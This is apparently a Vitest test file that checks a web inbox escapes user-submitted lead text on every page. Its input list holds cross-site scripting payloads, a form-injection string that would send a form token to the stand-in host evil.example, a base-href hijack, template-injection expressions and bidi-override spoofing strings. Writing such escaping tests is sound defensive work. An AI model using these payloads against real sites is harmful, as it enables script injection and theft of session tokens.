import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { createAccessApi } from '../../testing/access-fixture.ts'
import { createInboxFixture, type InboxBrowser, type InboxFixture, operator } from '../../testing/inbox-fixture.ts'

let inbox: InboxFixture
let browser: InboxBrowser
beforeAll(async () => {
  inbox = await createInboxFixture()
  browser = await inbox.signIn()
})
afterAll(() => inbox.close())
beforeEach(() => inbox.clear())

const texts: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['an element with a handler', '<img src=x onerror=alert(1)>'],
  ['the end of an attribute', `"' onfocus=alert(1) autofocus x="`],
  ['the end of a text area', '</textarea></form><form action=https://evil.example><input name=form_token>'],
  [
    'the end of the title and the frame',
    `</title></div></main><div id="access"></div><base href=https://evil.example>`,
  ],
  ['what a replacement would fill in', "$& $1 $` $' $$"],
  ['what was escaped already', '&lt;script&gt; &#60;script&#62;'],
  ['an expression', '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>'],
  ['writing from the right', '\u202egnp.exe\u2066 \u2067 \u061c'],
  ['Arabic', 'مرحبا بالعالم'],
  ['stacked marks', `Z${'\u0336\u0489'.repeat(60)}`],
  ['nothing to see', '\u200b\u2060\u00ad'],
  ['much of it', 'x'.repeat(200)],
]

describe('what somebody wrote', () => {
  test('reads in its order: 001 euros with an override were once shown as 100', async () => {
    const id = await inbox.store({ need: 'Pay \u202e001\u202c euros' })
    await browser.post(`/inbox/leads/${id}`, { act: 'note', note: 'Note: \u202d12' })
    for (const path of ['/inbox', `/inbox/leads/${id}`]) {
      const { text } = await browser.get(path)
      expect(text).toContain('Pay 001')
      expect(text).not.toMatch(/[\u202d\u202e]/)
    }
  })

  test.each(texts)('is text on every page: %s', async (_, text) => {
    const id = await inbox.store({
      name: text,
      email: `a?b='"&c@example.com`,
      need: text,
      source: text.slice(0, 100),
      phone: text,
    })
    await browser.post(`/inbox/leads/${id}`, { act: 'note', note: `Note: ${text}` })
    await browser.post(`/inbox/leads/${id}`, {
      act: 'message',
      message: `Message: ${text}`,
      choice_1: `Choice ${text}`,
    })
    const query = new URLSearchParams({ text, source: text })
    const empty = await browser.get(`/inbox?${new URLSearchParams({ text: 'nothing' })}`)
    const tags = (html: string) => [...html.matchAll(/<([a-z]+)\b/gi)].map(([, name]) => name!.toLowerCase())
    for (const path of ['/inbox', `/inbox?${query}`, `/inbox/leads/${id}`, '/inbox/numbers']) {
      const { text: html } = await browser.get(path)
      expect(tags(html).filter((tag) => ['script', 'img', 'base', 'iframe', 'object'].includes(tag))).toEqual([])
      // Without what stands in quotation marks, which nothing of it can leave, no element has a handler or leads away.
      const bare = html.replace(/"[^"<>]*"/g, '""')
      expect(bare).not.toMatch(/<[^>]*\s(on\w+|autofocus|style)\b/i)
      expect(html).not.toMatch(/(?:href|action|src)="(?!\/inbox|mailto:|tel:)/)
      expect(html.match(/id="access"/g)).toHaveLength(1)
      expect(html.match(/<form\b/g)!.length).toBe(html.match(/<\/form>/g)!.length)
      expect(html).not.toMatch(/name="form_token">/)
    }
    expect(tags(empty.text)).not.toContain('table')
  })

  test('ends its direction of writing where it ends', async () => {
    const id = await inbox.store({ name: '\u202beman', need: '\u202bdeen', source: '\u202becruos' })
    const [list, lead] = [await browser.get('/inbox'), await browser.get(`/inbox/leads/${id}`)]
    expect(list.text).toMatch(/<td class="excerpt" dir="auto">\u202b/)
    expect(list.text).toMatch(/<small><bdi>\u202becruos/)
    expect(lead.text).toMatch(/<p class="need" dir="auto">\u202b/)
    const outside = (html: string) => html.replace(/<(bdi|p|td|option)\b[^>]*>[^<]*<\/\1>/g, '')
    expect(outside(list.text)).not.toContain('\u202b')
    expect(outside(lead.text)).not.toContain('\u202b')
    expect(lead.text).toContain('<title>eman</title>')
  })

  test('leaves something to open where there is nothing to see of a name', async () => {
    await inbox.store({ name: '\u200b' })
    expect((await browser.get('/inbox')).text).toContain('<bdi>Name without letters</bdi>')
  })

  test('may be as long as it likes: a page of the list stays small', async () => {
    for (let count = 0; count < 50; count++)
      await inbox.store({ name: '😀'.repeat(200), need: '😀'.repeat(5_000), source: '😀'.repeat(100) })
    const { status, text } = await browser.get('/inbox')
    expect(status).toBe(200)
    expect(text.length).toBeLessThan(100_000)
    expect(text).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/)
  })

  test('cannot change the frame that it is put into', async () => {
    const api = createAccessApi(inbox, {
      operators: [operator],
      loadPage: async () =>
        '<!doctype html><html><head><title>Inbox</title></head><body><div class="inbox" id="access"></div><footer>Foot</footer></body></html>',
    })
    const id = await inbox.store({ name: `$'$\`$&</title><div id="access"></div>`, need: `$'$\`$&` })
    const { text } = await api.ask(`/inbox/leads/${id}`, { headers: { Cookie: browser.cookie } })
    expect(text.match(/<footer>/g)).toHaveLength(1)
    expect(text.match(/<title>/g)).toHaveLength(1)
    expect(text.match(/id="access"/g)).toHaveLength(1)
  })
})
